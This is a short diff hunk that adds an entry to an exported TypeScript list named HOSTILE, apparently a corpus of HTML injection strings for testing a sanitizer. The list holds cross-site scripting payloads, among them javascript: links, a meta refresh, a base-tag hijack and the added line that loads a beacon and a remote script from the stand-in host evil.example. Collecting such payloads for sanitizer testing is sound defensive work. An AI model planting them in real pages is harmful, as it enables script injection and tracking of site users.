@@ -15,6 +15,7 @@ export const HOSTILE: readonly string[] = [
   `<a href="javascript:${run}">x</a>`,
   `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
   `<base href="//evil.example/">`,
+  `<img src="http://evil.example/beacon.png"><script src="http://evil.example/x.js"></script>`,
   `<link rel="stylesheet" href="//evil.example/x.css"><style>*{display:none}</style>`,
   `<form action="//evil.example"><button autofocus>x</button></form>`,
   `--><script>${run}</script><!--`,
